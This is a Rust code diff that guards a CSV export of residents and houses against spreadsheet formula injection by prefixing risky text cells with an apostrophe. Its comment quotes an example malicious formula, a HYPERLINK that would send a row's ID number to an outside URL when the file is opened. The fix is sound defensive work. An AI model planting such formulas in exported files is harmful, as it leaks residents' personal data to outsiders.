@@ -101,6 +101,17 @@ pub(super) fn headers() -> Vec<&'static str> {
     COLUMNS.iter().filter(|c| exported(c)).map(|c| c.header).collect()
 }
 
+/// A text cell that a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, or a tab or carriage
+/// return before one) is written with a leading apostrophe, which spreadsheets show as text: a
+/// note such as `=HYPERLINK("http://…?"&B2, …)` must not send a row's ID number away when the
+/// file is opened. (The xlsx export writes string cells, which are never formulas.)
+fn neutralise_formula(s: &str) -> String {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}"),
+        _ => s.to_string(),
+    }
+}
+
 /// CSV in UTF-8 with a BOM, so that Excel on Chinese Windows opens it with the right encoding.
 pub fn export_csv(residents: &[Resident], houses: &[House], reveal: Reveal) -> Result<Vec<u8>, Error> {
     let mut w = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
@@ -108,7 +119,7 @@ pub fn export_csv(residents: &[Resident], houses: &[House], reveal: Reveal) -> R
     w.write_record(headers()).map_err(internal)?;
     for r in export_rows(residents, houses, reveal) {
         w.write_record(r.iter().map(|c| match c {
-            Some(Out::Text(s)) => s.clone(),
+            Some(Out::Text(s)) => neutralise_formula(s),
             Some(Out::Number(f)) => fmt_number(*f),
             None => String::new(),
         }))
